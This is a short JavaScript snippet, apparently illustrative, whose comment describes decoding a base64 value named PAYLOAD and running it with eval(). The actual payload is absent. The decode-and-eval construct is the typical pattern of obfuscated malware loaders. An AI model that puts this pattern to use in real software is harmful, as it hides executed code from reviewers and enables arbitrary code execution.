// The decoded text held in a variable, then evaluated.
const code = Buffer.from(PAYLOAD, 'base64').toString();
eval(code);
